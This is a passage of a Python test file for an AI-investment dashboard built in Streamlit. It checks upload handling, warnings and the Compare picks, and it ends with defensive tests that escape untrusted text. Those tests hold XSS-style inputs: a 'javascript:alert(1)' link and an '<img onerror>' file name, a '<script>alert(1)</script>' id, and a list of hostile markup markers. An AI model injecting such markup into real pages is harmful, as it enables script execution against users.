        spec = json.loads(next(e for e in at.get("plotly_chart") if key in e.proto.id).proto.spec)
        footer = next(tr["name"] for tr in spec["data"] if tr.get("legend") == "legend2").replace("<br>", " ")
        assert footer.startswith("Whole programmes, whose money pays for more than this capacity: QA programme"), key
    assert any(c.value.startswith("Whole programmes") and "QA programme" in c.value for c in at.caption)


def test_an_added_copy_of_a_bundled_row_is_said_to_be_counted_twice() -> None:
    """InvestAI's row under a new id, added, counted its €200B twice without a word; the template's
    example row is InvestAI, so editing only its id does this (QA pass 11)."""
    text = (REPO / "data" / "investments.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    copy = next(r for r in rows if r["id"] == "investai") | {"id": "investai-copy"}
    renamed = copy | {"id": "eu-fund", "name": "Some EU fund", "name_de": ""}  # same source and amount
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows([copy, renamed])
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "copy.csv", out.getvalue().encode())
    said = "2 added rows may repeat rows of the bundled data"

    def warned(app: AppTest) -> list[str]:
        # Beside the total, on every page: in the sidebar only, a phone's reader never saw it (QA pass 28).
        return [w.value for w in app.main.warning if "may repeat" in w.value]

    assert [w for w in warned(at) if "eu\\-fund \\= investai" in w and "investai\\-copy \\= investai" in w and said in w]
    assert len(warned(to_page(at, "compare"))) == 1
    # A rejected file does not take the warning away from the upload still in use.
    upload_file(at, "bad.csv", b"id,name\n")
    assert len(warned(to_page(at, "overview"))) == 1, [w.value for w in at.main.warning]
    # Not for rows of their own, nor under "replace", where nothing else is counted.
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    assert not warned(at) and not any("may repeat" in w.value for w in at.sidebar.warning)
    assert not warned(upload_file(new_app(), "copy.csv", out.getvalue().encode()))


def bundled_without(*ids: str) -> bytes:
    """The bundled file without the rows of ``ids`` (and their parts and revisions), as a valid upload."""
    text = (REPO / "data" / "investments.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    gone = set(ids)
    while grown := {r["id"] for r in rows if r["parent_id"] in gone} - gone:
        gone |= grown
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    for row in rows:  # "partial:<id>;…": no overlap with a row that is gone
        row["overlaps_with"] = ";".join(o for o in row["overlaps_with"].split(";") if o.split(":")[-1] not in gone)
    writer.writerows(r for r in rows if r["id"] not in gone)
    assert len(gone) >= len(ids) and all(i in {r["id"] for r in rows} for i in ids), ids
    return out.getvalue().encode()


def picker_key(at: AppTest) -> str:
    """The Compare picker's key (it names the data the picker offers)."""
    return next(m.key for m in at.multiselect if m.key.startswith(widget_key("items", "en")))


def compare_picks(at: AppTest) -> list[str]:
    return at.multiselect(key=picker_key(at)).value


def to_page(at: AppTest, page: str) -> AppTest:
    at.switch_page(f"dashboard/app_pages/{page}.py").run()
    assert not at.exception, [e.message for e in at.exception]
    return at


PICKS = ["amazon-capex-2026", "germany-hightech-agenda", "mistral-seed", "uk-compute-public-funding-2025"]


def test_a_pick_the_upload_lacks_stays_named_and_comes_back_in_its_place() -> None:
    """A pick an upload lacked came back last after "Use bundled data", and the page named it only
    on the run that set it aside: after a page change nothing said where it had gone (QA pass)."""
    at = to_page(new_app({"items": PICKS[:3]}), "compare")
    upload_file(at, "edited.csv", bundled_without("germany-hightech-agenda"))
    said = "as the data in use does not have it: Germany\\: Hightech Agenda Deutschland."  # Markdown-escaped
    assert compare_picks(at) == [PICKS[0], PICKS[2]]
    to_page(to_page(at, "overview"), "compare")
    assert any(said in w.value for w in at.warning), [w.value for w in at.warning]
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == PICKS[:3]
    assert not any(said in w.value for w in at.warning)


def test_picks_set_aside_by_two_uploads_come_back_in_their_places() -> None:
    """Places kept as indexes, each in the list of its own run, gave [a, b, d, c] (review)."""
    at = to_page(new_app({"items": PICKS}), "compare")
    upload_file(at, "first.csv", bundled_without(PICKS[1]))
    to_page(at, "overview")
    upload_file(at, "second.csv", bundled_without(PICKS[1], PICKS[3]))
    to_page(at, "compare")
    assert compare_picks(at) == [PICKS[0], PICKS[2]]
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == PICKS


def test_a_pick_comes_back_after_the_pick_before_it_whatever_the_reader_removed() -> None:
    at = to_page(new_app({"items": PICKS}), "compare")
    upload_file(at, "edited.csv", bundled_without(PICKS[2]))
    at.multiselect(key=picker_key(at)).set_value([PICKS[1], PICKS[3]]).run()
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == [PICKS[1], PICKS[2], PICKS[3]]


def test_a_pick_with_no_room_to_come_back_is_named() -> None:
    """With eight picks made meanwhile, a set-aside pick was dropped without a word (review)."""
    at = to_page(new_app({"items": PICKS[:3]}), "compare")
    upload_file(at, "edited.csv", bundled_without(PICKS[1]))
    eight = [PICKS[0], PICKS[2], *DEFAULT_ITEMS]
    at.multiselect(key=picker_key(at)).set_value(eight).run()
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == eight
    warned = [w.value for w in at.warning]
    assert any("Not put back, as 8 items are picked already: Germany\\: Hightech" in w for w in warned), warned


def test_a_pick_a_second_upload_lacks_keeps_its_name_while_set_aside() -> None:
    # Named on the first run, then by id ("alpha\\-programme") on the next rerun and page change (review).
    at = to_page(new_app(), "compare")
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    at.multiselect(key=picker_key(at)).set_value(["alpha-programme", "gamma-cloud"]).run()
    without = "".join(r for r in good_text().splitlines(keepends=True) if not r.startswith("alpha-"))
    upload_file(at, "without-alpha.csv", without.encode())
    said = "as the data in use does not have it: Alpha AI programme."
    for _ in range(2):
        assert any(said in w.value for w in at.warning), [w.value for w in at.warning]
        at.run()
    to_page(to_page(at, "overview"), "compare")
    assert any(said in w.value for w in at.warning), [w.value for w in at.warning]


def test_picks_only_an_upload_had_are_named_once_the_bundled_data_is_back() -> None:
    """They were named on every Compare run for the rest of the session, with no way to clear it (review)."""
    at = to_page(new_app(), "compare")
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    at.multiselect(key=picker_key(at)).set_value(["alpha-programme", "gamma-cloud"]).run()
    at.button(key="upload_reset").click().run()
    # Named as the picker named them, not by id (QA pass 2).
    said = "as the data in use does not have them: Alpha AI programme, Gamma cloud region."
    assert any(said in w.value for w in at.warning), [w.value for w in at.warning]
    to_page(to_page(at, "overview"), "compare")
    assert not any("Left out" in w.value for w in at.warning), [w.value for w in at.warning]


def test_a_link_made_while_an_upload_trims_the_default_picks_keeps_the_defaults() -> None:
    """An upload without the default picks left ``items=investai`` in the link: reloaded (which
    drops the upload) or shared, Compare showed one item nobody picked (QA pass 28)."""
    at = to_page(new_app(), "compare")
    upload_file(at, "edited.csv", bundled_without(*DEFAULT_ITEMS[1:]))
    assert compare_picks(at) == [DEFAULT_ITEMS[0]]
    assert "items" not in at.query_params, at.query_params
    reloaded = to_page(new_app(dict(at.query_params)), "compare")
    assert compare_picks(reloaded) == list(DEFAULT_ITEMS)
    # The reader's own picks are linked as they are.
    at.multiselect(key=picker_key(at)).set_value(PICKS[1:3]).run()
    assert at.query_params["items"] == PICKS[1:3], at.query_params


def test_the_default_picks_do_not_come_back_into_the_readers_own() -> None:
    """Set aside without a word, the six default picks came back in front of the two the reader
    had picked from the upload (review): they return only to picks the reader left alone."""
    at = to_page(new_app(), "compare")
    upload_file(at, "edited.csv", bundled_without(*DEFAULT_ITEMS))
    at.multiselect(key=picker_key(at)).set_value(PICKS[1:3]).run()
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == PICKS[1:3]


@pytest.mark.parametrize("first, second", [
    (("investai", "stargate"), ("stargate",)),  # the second upload gave InvestAI back, and Stargate was lost
    (("stargate",), ("investai",)),  # the second upload named InvestAI, a default the reader never picked
])
def test_default_picks_two_uploads_set_aside_all_come_back_unnamed(first, second) -> None:
    at = to_page(new_app(), "compare")
    upload_file(at, "first.csv", bundled_without(*first))
    upload_file(at, "second.csv", bundled_without(*second))
    assert not any("Left out" in w.value for w in at.warning), [w.value for w in at.warning]
    at.button(key="upload_reset").click().run()
    assert compare_picks(at) == list(DEFAULT_ITEMS)
    # The run that gave them back offers the Year's capex as the default picks do (it did only
    # after another setting changed: QA pass 3).
    assert [b for b in at.button if b.key == "compare_year_capex"], [b.key for b in at.button]


def bundled_copies(copies: int) -> bytes:
    """``copies`` copies of the bundled rows, each with its own ids (``<id>-c<k>``) and actors (one
    capex item per company and period) and only the links of its note, as an upload."""
    text = (REPO / "data" / "investments.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))

    def renamed(ref: str, k: int) -> str:
        return f"{ref}-c{k}" if ref else ref

    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    for k in range(copies):
        for row in rows:
            links = [o.rsplit(":", 1) for o in row["overlaps_with"].split(";") if o]
            writer.writerow(row | {
                "id": renamed(row["id"], k),
                "parent_id": renamed(row["parent_id"], k),
                "actor": f"Copy {k} of {row['actor']}",
                "overlaps_with": ";".join(f"{kind}:{renamed(ref, k)}" for kind, ref in links),
                "note": " ".join(re.findall(r"https?://\S+", row["note"])),  # its links: within 5 MB
            })
    return out.getvalue().encode()


def test_the_data_pages_cut_to_5000_rows_is_said_of_the_rows_the_search_finds() -> None:
    """"The table shows the first 5,000 rows; the download holds all" stood above a search that
    found 30 of them, and the CSV held those 30 (review)."""
    at = to_page(upload_file(new_app(), "copies.csv", bundled_copies(30)), "data_sources")

    def cut() -> list[str]:
        return [c.value for c in at.caption if c.value.startswith("The table shows the first 5,000 rows")]

    assert cut() == [f"The table shows the first 5,000 rows; the download holds all {30 * BUNDLED_ROWS:,}."]
    at.text_input(key="data_find").input("stargate").run()
    assert not cut() and len(at.dataframe[0].value) < 5000
    at.text_input(key="data_find").input("-c").run()  # every id of the copies
    assert cut() == [f"The table shows the first 5,000 rows; the download holds all {30 * BUNDLED_ROWS:,}."]
    assert len(at.dataframe[0].value) == 5000


def test_the_guidance_note_on_microsofts_finance_leases_goes_with_its_line() -> None:
    """The paragraph under the guidance chart explained Microsoft's FY2025 actual and fiscal year
    where Microsoft's line was not drawn (review)."""
    at = to_page(upload_file(new_app(), "edited.csv", bundled_without("microsoft-capex-fy2025")), "timeline")
    captions = " ".join(c.value for c in at.caption)
    assert "Company capex is total capital expenditure" in captions and "actual includes finance leases" not in captions


def test_the_default_picks_button_is_offered_only_where_the_data_has_them() -> None:
    """With an upload that has none of the default picks, "Pick the default items" did nothing (QA pass)."""
    at = to_page(upload_file(new_app(), "minimal.csv", GOOD.read_bytes()), "compare")
    assert any("at least two" in i.value for i in at.info)
    assert not [b for b in at.button if b.key == "compare_default_items"]
    at = to_page(upload_file(new_app(), "edited.csv", bundled_without("stargate", "investai")), "compare")
    at.multiselect(key=picker_key(at)).set_value([]).run()
    at.button(key="compare_default_items").click().run()
    assert compare_picks(at) == [i for i in DEFAULT_ITEMS if i not in ("stargate", "investai")]


def test_a_rejected_file_leaves_the_previous_upload_in_use() -> None:
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    kpis = [m.value for m in at.metric]
    upload_file(at, "bad.csv", (REPO / "tests/data/bad/several_defects.csv").read_bytes())
    assert [m.value for m in at.metric] == kpis
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
    assert [e.value for e in at.sidebar.error] == ["bad\\.csv was rejected: 6 problems. The data in use is unchanged."]
    assert at.sidebar.code[0].value.splitlines()[0] == (
        "row 1 (id alpha-programme), region: 'Europa' is not one of Europe, North America, Asia, Middle East, Global")
    # Which line "row 1" is (a QA pass read it as the header's line 1).
    assert any("row 1 is the file's line 2" in c.value for c in at.sidebar.caption)


def test_removing_the_file_in_use_from_the_uploader_brings_back_the_bundled_data() -> None:
    """A QA pass removed the file (its ✕) and went on reading the upload's total as the bundled one;
    removing a rejected file still leaves the upload that was in use."""
    at = new_app()
    bundled_kpis = [m.value for m in at.metric]
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    upload_file(at, "bad.csv", (REPO / "tests/data/bad/several_defects.csv").read_bytes())
    at.file_uploader(key="upload_file").set_value(None).run()
    assert not at.exception
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    at.file_uploader(key="upload_file").set_value(None).run()
    assert not at.exception
    assert [m.value for m in at.metric] == bundled_kpis
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    assert not at.sidebar.success and at.button(key="upload_reset").disabled
    # A file in use that a switch to "add" then rejects is still the file in use: its ✕ removes it.
    upload_file(at, "dup.csv", good_text().replace("gamma-cloud", "stargate").encode())
    at.radio(key="upload_mode-en").set_value("add").run()
    assert at.sidebar.error and in_use(at).startswith("Data in use: dup\\.csv")
    at.file_uploader(key="upload_file").set_value(None).run()
    assert not at.exception and in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."


def test_europes_money_outside_the_eu_or_without_a_country_is_said_so() -> None:
    text = good_text().replace("Alpha Union,public,Europe,EU,200000000000", "Alpha Union,public,Europe,GB,200000000000")
    assert text != good_text()
    at = upload_file(new_app({"region": ["Europe", "Middle East"]}), "uk.csv", text.encode())
    said = [c.value for c in at.caption if "wider than the EU" in c.value]
    assert said == ["Europe is wider than the EU: of Europe's €200B in this total, €200B for a country outside the EU "
                    "(United Kingdom)."], [c.value for c in at.caption]
    # A European row without a country is neither: it was left out, and the parts no longer made
    # Europe's sum (review 56).
    row = next(r for r in text.splitlines() if r.startswith("alpha-programme,"))
    unnamed = row.replace("alpha-programme,", "delta-programme,").replace(",Europe,GB,200000000000,200000000000,",
                                                                        ",Europe,,5000000000,5000000000,")
    assert ",Europe,,5000000000," in unnamed
    at = upload_file(new_app({"region": "Europe"}), "unnamed.csv", (text + unnamed + "\n").encode())
    said = [c.value for c in at.caption if "wider than the EU" in c.value]
    assert said == ["Europe is wider than the EU: of this total, €200B for a country outside the EU (United Kingdom); "
                    "€5B in rows that name no country."], [c.value for c in at.caption]
    assert next(m.value for m in at.metric if m.label.startswith("Total")) == "€205B"


def test_a_mode_switch_that_the_file_in_use_fails_keeps_its_mode_and_says_so() -> None:
    """A copy of the bundled data in use, switched to "add": the radio said "add" over the file still
    used in place of the bundled data, above "was rejected: 188 problems. The data in use is
    unchanged" (QA pass 29). The radio goes back, and the message says why."""
    at = upload_file(new_app(), "dup.csv", good_text().replace("gamma-cloud", "stargate").encode())
    kpis = [m.value for m in at.metric]
    at.radio(key="upload_mode-en").set_value("add").run()
    assert not at.exception and at.radio(key="upload_mode-en").value == "replace"
    assert [e.value for e in at.sidebar.error] == [
        "dup\\.csv cannot be added to the bundled data: 1 problem. It stays in use in place of the bundled data, "
        "and “Uploaded rows” is back at “replace the bundled data”."
    ]
    assert in_use(at).startswith("Data in use: dup\\.csv") and [m.value for m in at.metric] == kpis
    # The next run keeps it so (the file is not read again under "replace", taking the message away),
    # in the other language too; choosing "add" again says it again.
    at.selectbox(key=widget_key("lang", "en")).set_value("de").run()
    assert not at.exception and at.sidebar.error and at.radio(key="upload_mode-de").value == "replace"
    at.radio(key="upload_mode-de").set_value("add").run()
    assert not at.exception and at.radio(key="upload_mode-de").value == "replace"
    assert at.sidebar.error[0].value.startswith("dup\\.csv kann nicht zu den mitgelieferten Daten hinzugefügt werden")
    # The other way: rows added to the bundled data, switched to "replace", where their parents are missing.
    child = good_text().replace("beta-campus-2025-09,beta-campus,revision", "beta-campus-2025-09,stargate,revision").replace(
        "Beta campus (September update),,Beta Corp,private", "Beta campus (September update),,Beta Corp,corporate")
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "child.csv", child.encode())
    assert at.sidebar.success
    at.radio(key="upload_mode-en").set_value("replace").run()
    assert not at.exception and at.radio(key="upload_mode-en").value == "add"
    assert at.sidebar.error[0].value.startswith("child\\.csv cannot replace the bundled data: ")
    assert at.sidebar.error[0].value.endswith("It stays in use, added to the bundled data, and “Uploaded rows” is back "
                                              "at “add to the bundled data”.")
    assert in_use(at).startswith("Data in use: child\\.csv") and "added to the bundled dataset" in in_use(at)


def test_a_rejected_file_that_replaces_the_file_in_use_says_the_bundled_data_is_in_use() -> None:
    """The browser removes the file in the uploader before sending the one that replaces it: a
    QA pass's upload was gone after a rejected replacement said "The data in use is unchanged".
    Bringing the removed file back was no answer: a reader's own ✕ then a bad file looks the same,
    and the file removed on purpose came back into use under "unchanged" (QA pass)."""
    bad = (REPO / "tests/data/bad/several_defects.csv").read_bytes()
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    minimal_kpis = [m.value for m in at.metric]
    at.file_uploader(key="upload_file").set_value(None).run()  # the removal, a run of its own (or a ✕)
    bundled_kpis = [m.value for m in at.metric]
    upload_file(at, "bad.csv", bad)
    assert [m.value for m in at.metric] == bundled_kpis
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    assert [e.value for e in at.sidebar.error] == [
        "bad\\.csv was rejected: 6 problems. The bundled data is in use: minimal\\.csv, the file it replaced, "
        "left the uploader."
    ]
    # Nothing is lost: one click brings the replaced file back, as it was, and empties the uploader
    # of the rejected one (QA pass 14 lost its upload to a file with a bad date).
    assert at.button(key="upload_restore").label == "Use minimal\\.csv again"
    at.button(key="upload_restore").click().run()
    assert not at.exception
    assert [m.value for m in at.metric] == minimal_kpis
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
    assert not at.sidebar.error and not at.file_uploader(key="upload_file-1").value
    assert not [b for b in at.sidebar.button if b.key == "upload_restore"]
    at.button(key="upload_reset").click().run()  # the bundled data again, as before the restore
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    # Restored in its own mode, whatever the radio was switched to meanwhile (review).
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    at.file_uploader(key="upload_file").set_value(None).run()
    upload_file(at, "bad.csv", bad)
    at.radio(key="upload_mode-en").set_value("add").run()
    at.button(key="upload_restore").click().run()
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
    assert at.radio(key="upload_mode-en").value == "replace"
    # The offer goes with its rejection: removing the rejected file removes both (review).
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    at.file_uploader(key="upload_file").set_value(None).run()
    upload_file(at, "bad.csv", bad)
    at.file_uploader(key="upload_file").set_value(None).run()
    assert not at.sidebar.error and not [b for b in at.sidebar.button if b.key == "upload_restore"]
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    # A removal followed by other clicks: the rejection changes nothing, and says so.
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    at.file_uploader(key="upload_file").set_value(None).run()
    at.selectbox(key=widget_key("currency", "en")).set_value("USD").run()
    upload_file(at, "bad.csv", bad)
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    assert [e.value for e in at.sidebar.error] == ["bad\\.csv was rejected: 6 problems. The data in use is unchanged."]


def test_a_file_in_use_that_add_rejects_gets_no_hint_to_choose_replace() -> None:
    """An edited copy of the bundled data, in use in place of it, rejected after a switch to "add":
    the hint said to choose "replace" to use it in place of the bundled data, as it already was (QA pass)."""
    at = upload_file(new_app(), "edited.csv", bundled_without("stargate"))
    at.radio(key="upload_mode-en").set_value("add").run()
    assert in_use(at).startswith("Data in use: edited\\.csv") and at.sidebar.error
    assert not any("choose “replace the bundled data”" in c.value for c in at.sidebar.caption)
    fresh = new_app()  # not in use: the hint stays
    fresh.radio(key="upload_mode-en").set_value("add").run()
    upload_file(fresh, "edited.csv", bundled_without("stargate"))
    assert any("choose “replace the bundled data”" in c.value for c in fresh.sidebar.caption)


def test_a_german_reader_is_told_why_the_problem_lines_are_english() -> None:
    """The lines are the CLI's ``validate`` output (a contract); the summary around them is German."""
    bad = (REPO / "tests/data/bad/several_defects.csv").read_bytes()
    german = upload_file(new_app({"lang": "de"}), "bad.csv", bad)
    assert [e.value for e in german.sidebar.error] == [
        "bad\\.csv wurde abgelehnt: 6 Probleme. Die verwendeten Daten bleiben unverändert."]
    assert german.sidebar.code[0].value.startswith("row 1 (id alpha-programme), region:")
    assert any("englisch" in c.value and "validate" in c.value for c in german.sidebar.caption)
    english = upload_file(new_app(), "bad.csv", bad)
    assert not any("validate" in c.value for c in english.sidebar.caption)


def test_add_mode_adds_to_the_bundled_data_and_a_mode_switch_reapplies_the_file(bundled) -> None:
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    both = check_upload(GOOD.read_bytes(), mode="add", bundled=bundled).frame
    assert items_counted(at) == str(expected_items(both))
    assert in_use(at) == f"Data in use: minimal\\.csv (6 rows) added to the bundled dataset, {len(both)} rows in all."
    at.radio(key="upload_mode-en").set_value("replace").run()
    assert not at.exception
    assert items_counted(at) == str(expected_items(read_dataset(GOOD)))
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."


def test_add_mode_duplicate_of_a_bundled_id_is_rejected_with_both_rows(bundled) -> None:
    at = new_app()
    kpis = [m.value for m in at.metric]
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "dup.csv", good_text().replace("gamma-cloud", "stargate").encode())
    row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
    assert at.sidebar.code[0].value == f"row 6 (id stargate), id: duplicate id, also bundled row {row}"
    assert [m.value for m in at.metric] == kpis
    # The way out is named (a QA pass read 183 such lines and no word of it).
    assert any("choose “replace the bundled data” under “Uploaded rows”" in c.value for c in at.sidebar.caption)
    # "Replace" is the way out: switching re-checks the file still in the uploader (QA pass).
    at.radio(key="upload_mode-en").set_value("replace").run()
    assert not at.exception and not at.sidebar.code and not at.sidebar.error
    assert in_use(at) == "Data in use: dup\\.csv (6 rows) instead of the bundled dataset."


def test_only_the_first_50_problems_are_shown_with_the_total() -> None:
    text = good_text().splitlines()
    rows = [text[1].replace("alpha-programme", f"row-{i}", 1).replace("Europe", "Europa") for i in range(120)]
    at = upload_file(new_app(), "many.csv", ("\n".join([text[0], *rows]) + "\n").encode())
    assert [e.value for e in at.sidebar.error] == ["many\\.csv was rejected: 120 problems. The data in use is unchanged."]
    assert "The first 50 of 120 problems:" in [c.value for c in at.sidebar.caption]
    shown = at.sidebar.code[0].value.splitlines()
    assert len(shown) == 50 and shown[-1].startswith("row 50 (id row-49), region: 'Europa'")


def test_a_full_copy_added_to_the_bundled_data_still_shows_its_bad_cell() -> None:
    # 183 "duplicate id" lines came first, and the bad region in row 151 was not among the 50
    # shown (QA pass): each column's first problem is shown, in file order.
    rows = list(csv.DictReader(io.StringIO((REPO / "data" / "investments.csv").read_text(encoding="utf-8"))))
    rows[150]["region"] = "Europa"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    at = upload_file(at, "copy.csv", out.getvalue().encode())
    shown = at.sidebar.code[0].value.splitlines()
    assert len(shown) == 50 and shown[:49] == [line for line in shown if "duplicate id" in line]
    assert shown[-1].startswith(f"row 151 (id {rows[150]['id']}), region: 'Europa' is not one of")
    count = BUNDLED_ROWS + 1
    assert f"50 of {count} problems: the first of each column's, then the others from the top:" in [
        c.value for c in at.sidebar.caption
    ]


def test_a_file_over_the_size_limit_is_refused_by_the_app_itself() -> None:
    # The browser refuses it before sending; a client that sends it anyway meets our own check.
    content = GOOD.read_bytes() + b"#" * 5_000_000
    at = upload_file(new_app(), "big.csv", content)
    assert at.sidebar.code[0].value == (
        f"file: the file is 5.0 MB ({len(content):,} bytes); uploads are limited to 5 MB (5,000,000 bytes)")
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."


def test_a_check_cut_short_is_done_again_by_the_next_run(monkeypatch) -> None:
    """A click that reached the server while the file was checked cut the check short, and the
    uploader listed a file that was not in use (QA pass): the next run checks it again."""
    import streamlit as st

    real, calls = upload.process, []

    def cut_short_once(content: bytes, name: str, mode: str) -> dataset.Upload:
        calls.append(name)
        if len(calls) == 1:
            st.rerun()  # a newer rerun stops this one inside the check, as a click does
        return real(content, name, mode)

    monkeypatch.setattr(upload, "process", cut_short_once)
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    assert calls == ["minimal.csv", "minimal.csv"]
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."


def test_session_wiring_through_session_state_alone() -> None:
    """What ``sync_file`` stores is all the app needs: the same entry put into session_state
    (without the uploader) makes the upload the data in use; a broken entry falls back."""
    result = check_upload(GOOD.read_bytes(), "minimal.csv")
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[upload.ACCEPTED_KEY] = {
        "content": contract_csv(result.frame), "label": "upload:minimal.csv", "name": "minimal.csv",
        "rows": 6, "total": 6, "mode": "replace", "variant": result.variant.describe()}
    at.run()
    assert not at.exception
    assert items_counted(at) == str(expected_items(result.frame))
    broken = AppTest.from_file(APP, default_timeout=60)
    broken.session_state[upload.ACCEPTED_KEY] = {"content": b"not,a,dataset\n", "label": "x"}
    broken.run()
    assert not broken.exception
    assert in_use(broken) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."


def test_unconvertible_rows_are_listed_and_the_others_still_shown() -> None:
    at = upload_file(new_app(), "rub.csv", (HOSTILE / "rub_2024_unconvertible.csv").read_bytes())
    warnings = [w.value for w in at.warning]
    assert len(warnings) == 1 and warnings[0].startswith("1 row could not be converted"), warnings
    shown = re.sub(r"\\(.)", r"\1", warnings[0])  # the source is Markdown-escaped; compare the text
    assert "row 3 (id beta-campus), currency: no RUB→EUR rate for 2024-03-15" in shown
    frame = check_upload((HOSTILE / "rub_2024_unconvertible.csv").read_bytes()).frame
    # beta-campus (RUB) is left out, but its USD revision still stands for it: 3 items, as the ledger says
    assert items_counted(at) == str(expected_items(frame)) == "3"
    at.switch_page("dashboard/app_pages/data_sources.py").run()
    assert not at.exception
    assert any("6 rows match the filters" in m.value for m in at.markdown)
    assert len(at.dataframe[0].value) == 6


# --- untrusted text stays text ----------------------------------------------------------------------

HOSTILE_MARKERS = ("<script", "<img", "<iframe", "](javascript", "](https://evil", ":red[", "$x^2$", "**bold**")


def markdown_texts(at: AppTest) -> list[tuple[str, str]]:
    """Every text the app renders as Markdown: markdown, captions, alerts, metric help."""
    out = []
    for kind in ("markdown", "caption", "warning", "info", "error", "success", "title", "subheader", "header"):
        out.extend((kind, e.value) for e in getattr(at, kind))
    out.extend(("metric help", m.proto.help) for m in at.metric)
    return out


def is_live(text: str, markers=HOSTILE_MARKERS) -> bool:
    """Whether a marker occurs with its first character unescaped (``\\<img`` is inert)."""
    return any(re.search(r"(?<!\\)" + re.escape(marker), text) for marker in markers)


def live_markup(at: AppTest) -> list[tuple[str, str]]:
    return [(k, v) for k, v in markdown_texts(at) if is_live(v)]


def test_names_with_html_and_markdown_are_escaped_in_the_upload_messages() -> None:
    name = "[x](javascript:alert(1))<img src=x onerror=alert(1)>.csv"
    at = upload_file(new_app(), name, (HOSTILE / "html_markdown_names.csv").read_bytes())
    sidebar = [e.value for kind in ("success", "caption", "error") for e in getattr(at.sidebar, kind)]
    assert sidebar and not [v for v in sidebar if is_live(v, (*HOSTILE_MARKERS, "[x](", "<img"))]
    success = at.sidebar.success[0].value
    assert "\\[x\\]\\(javascript\\:alert\\(1\\)\\)\\<img" in success
    at = upload_file(new_app(), name, (HOSTILE / "hostile_id.csv").read_bytes())
    assert at.sidebar.code[0].value.startswith("row 1 (id <script>alert(1)</script>)")  # st.code: literal text
    assert all("<script" not in e.value for e in at.sidebar.error)


@pytest.mark.parametrize("view", ["total", "per-year"])
def test_uploaded_names_never_become_live_markdown_outside_the_overview(view: str) -> None:
    at = upload_file(new_app({"view": view}), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
    for page in PAGES[1:]:
        at.switch_page(f"dashboard/app_pages/{page}.py").run()
        assert not at.exception, (page, [e.message for e in at.exception])
        assert live_markup(at) == [], page


def test_uploaded_names_never_become_live_markdown_on_the_overview() -> None:
    at = upload_file(new_app(), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
    assert live_markup(at) == []


#: Tags the chart builders write themselves; anything else in chart text came from the data.
_OWN_TAGS = re.compile(r"</?(b|i|br|sup|sub|em|extra)\s*/?>")


def raw_chart_text(at: AppTest) -> list[tuple[str, str, str]]:
    """Chart labels (axis categories, treemap labels, text) that still contain a raw '<'."""
    found = []
    for element in at.get("plotly_chart"):
        for trace in json.loads(element.proto.spec)["data"]:
            for key in ("x", "y", "labels", "text", "ids", "parents"):
                values = trace.get(key)
                for value in values if isinstance(values, list) else [values]:
                    if isinstance(value, str) and "<" in _OWN_TAGS.sub("", value):
                        found.append((element.proto.id.rsplit("-", 1)[-1], key, value))
    return found


def test_uploaded_names_stay_text_in_chart_labels() -> None:
    at = upload_file(new_app(), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
    found = raw_chart_text(at)
    for page in ("timeline",):
        at.switch_page(f"dashboard/app_pages/{page}.py").run()
        found += raw_chart_text(at)
    assert found == []


# --- CSV export: same numbers, formulas as text ----------------------------------------------------


def exported(frame: pd.DataFrame, currency: str = "USD") -> tuple[pd.DataFrame, pd.DataFrame]:
